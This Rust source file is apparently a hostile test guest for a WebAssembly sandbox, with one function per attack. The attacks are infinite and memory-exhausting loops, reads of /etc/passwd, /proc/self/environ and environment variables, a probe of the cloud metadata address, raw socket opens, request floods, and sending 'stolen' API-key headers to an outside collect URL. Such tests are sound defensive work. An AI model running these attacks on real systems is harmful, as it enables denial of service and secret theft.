//! The attacks, one function each.

use crate::actionbox::action::settings;
use crate::actionbox::action::types::ActionError;
use crate::http::send;
use crate::wasi::http::types::Method;
use std::hint::black_box;

/// Every method, in `describe` order.
pub const NAMES: &[&str] = &[
    "infinite-loop",
    "allocating-loop",
    "memory-bomb",
    "deep-recursion",
    "disallowed-host",
    "ip-literal",
    "private-range",
    "base-url-request",
    "file-read",
    "env-read",
    "socket-open",
    "many-requests",
    "huge-response",
    "huge-request-body",
    "huge-result",
    "steal-key-header",
    "panic",
    "invalid-json",
];

pub fn run(method: &str, input: &str) -> Result<String, ActionError> {
    match method {
        "infinite-loop" => infinite_loop(),
        "allocating-loop" => allocating_loop(),
        "memory-bomb" => memory_bomb(),
        "deep-recursion" => Ok(deep_recursion(0).to_string()),
        "disallowed-host" => expect_refused(send(Method::Get, "https://example.com/", &[], 0)),
        "ip-literal" => expect_refused(send(Method::Get, "http://93.184.216.34/", &[], 0)),
        "private-range" => expect_refused(send(Method::Get, "http://169.254.169.254/latest/meta-data/", &[], 0)),
        "base-url-request" => base_url_request(input),
        "file-read" => file_read(),
        "env-read" => env_read(),
        "socket-open" => socket_open(input),
        "many-requests" => many_requests(),
        "huge-response" => huge_response(),
        "huge-request-body" => huge_request_body(),
        "huge-result" => Ok(huge_result()),
        "steal-key-header" => steal_key_header(),
        "panic" => panic!("hostile guest panicked on purpose"),
        "invalid-json" => Ok("this is { not JSON".into()),
        other => Err(ActionError::InvalidInput(format!("no such attack `{other}`"))),
    }
}

fn base_url() -> String {
    settings::get("base-url").unwrap_or_default()
}

fn expect_refused(result: Result<crate::http::Answer, String>) -> Result<String, ActionError> {
    match result {
        Ok(a) => Ok(format!("{{\"leaked\": \"got HTTP {}\"}}", a.status)),
        Err(e) => Err(ActionError::Denied(e)),
    }
}

fn infinite_loop() -> Result<String, ActionError> {
    let mut n: u64 = 0;
    loop {
        n = black_box(n.wrapping_add(1));
    }
}

fn allocating_loop() -> Result<String, ActionError> {
    loop {
        let v = vec![7u8; 64 * 1024];
        black_box(&v);
    }
}

fn memory_bomb() -> Result<String, ActionError> {
    let mut hoard: Vec<Vec<u8>> = Vec::new();
    loop {
        hoard.push(vec![1u8; 1024 * 1024]);
        black_box(&hoard);
    }
}

/// Recurses without end on the wasm stack (no shadow-stack frame; the bound
/// is never reached, it only keeps the compiler from rejecting the function).
fn deep_recursion(depth: u64) -> u64 {
    if black_box(depth) == u64::MAX {
        return depth;
    }
    deep_recursion(depth + 1).wrapping_add(black_box(1))
}

/// GET `{base-url}{path}` where `path` comes from the input (`{"path": "/x"}`).
fn base_url_request(input: &str) -> Result<String, ActionError> {
    let path = input
        .split("\"path\"")
        .nth(1)
        .and_then(|rest| rest.split('"').nth(1))
        .unwrap_or("/v2/shipments");
    match send(Method::Get, &format!("{}{path}", base_url()), &[], 0) {
        Ok(a) => Ok(format!(
            "{{\"status\": {}, \"body_bytes\": {}}}",
            a.status, a.body_bytes
        )),
        Err(e) => Err(ActionError::Upstream(
            crate::actionbox::action::types::UpstreamFailure {
                status: None,
                message: e,
                request_id: None,
            },
        )),
    }
}

fn file_read() -> Result<String, ActionError> {
    for path in ["/etc/passwd", "/proc/self/environ", ".", "/"] {
        if let Ok(text) = std::fs::read_to_string(path) {
            return Ok(format!("{{\"leaked\": {:?}}}", &text[..text.len().min(64)]));
        }
        if let Ok(mut dir) = std::fs::read_dir(path) {
            if let Some(Ok(entry)) = dir.next() {
                return Ok(format!("{{\"leaked\": {:?}}}", entry.file_name().to_string_lossy()));
            }
        }
    }
    Err(ActionError::Denied("no file or directory could be read".into()))
}

fn env_read() -> Result<String, ActionError> {
    let vars: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
    let args: Vec<String> = std::env::args().collect();
    if vars.is_empty() && args.is_empty() && std::env::var("SHIPSTATION_API_KEY").is_err() {
        Err(ActionError::Denied(
            "no environment variables or arguments are visible".into(),
        ))
    } else {
        Ok(format!("{{\"leaked_vars\": {vars:?}, \"args\": {args:?}}}"))
    }
}

fn socket_open(input: &str) -> Result<String, ActionError> {
    let addr = input.split('"').nth(3).unwrap_or("127.0.0.1:80").to_string();
    match std::net::TcpStream::connect(&addr) {
        Ok(_) => Ok(format!("{{\"leaked\": \"connected to {addr}\"}}")),
        Err(e) => Err(ActionError::Denied(format!("socket to {addr} refused: {e}"))),
    }
}

fn many_requests() -> Result<String, ActionError> {
    let url = format!("{}/v2/shipments", base_url());
    for i in 0..1000 {
        if let Err(e) = send(Method::Get, &url, &[], 0) {
            return Err(ActionError::Denied(format!("request {i} failed: {e}")));
        }
    }
    Ok("{\"leaked\": \"1000 requests went out\"}".into())
}

fn huge_response() -> Result<String, ActionError> {
    match send(Method::Get, &format!("{}/huge", base_url()), &[], 0) {
        Ok(a) => Ok(format!("{{\"leaked\": \"read {} bytes\"}}", a.body_bytes)),
        Err(e) => Err(ActionError::Internal(e)),
    }
}

fn huge_request_body() -> Result<String, ActionError> {
    match send(Method::Post, &format!("{}/upload", base_url()), &[], 50 * 1024 * 1024) {
        Ok(a) => Ok(format!("{{\"leaked\": \"sent 50 MiB, got HTTP {}\"}}", a.status)),
        Err(e) => Err(ActionError::Internal(e)),
    }
}

fn huge_result() -> String {
    let mut s = String::with_capacity(50_000_002);
    s.push('"');
    s.extend(std::iter::repeat_n('x', 50_000_000));
    s.push('"');
    s
}

fn steal_key_header() -> Result<String, ActionError> {
    type Headers<'a> = &'a [(&'a str, &'a [u8])];
    let attempts: [(&str, Headers); 3] = [
        ("https://example.com/collect", &[("api-key", b"stolen")]),
        ("https://example.com/collect", &[("authorization", b"Bearer stolen")]),
        ("/v2/shipments", &[("API-Key", b"guest-chosen-key")]),
    ];
    let mut refusals = Vec::new();
    for (url, headers) in attempts {
        let url = if url.starts_with('/') {
            format!("{}{url}", base_url())
        } else {
            url.to_string()
        };
        match send(Method::Get, &url, headers, 0) {
            Ok(a) => {
                return Ok(format!(
                    "{{\"leaked\": \"{url} with {:?} answered {}\"}}",
                    headers[0].0, a.status
                ))
            }
            Err(e) => refusals.push(e),
        }
    }
    Err(ActionError::Denied(refusals.join("; ")))
}
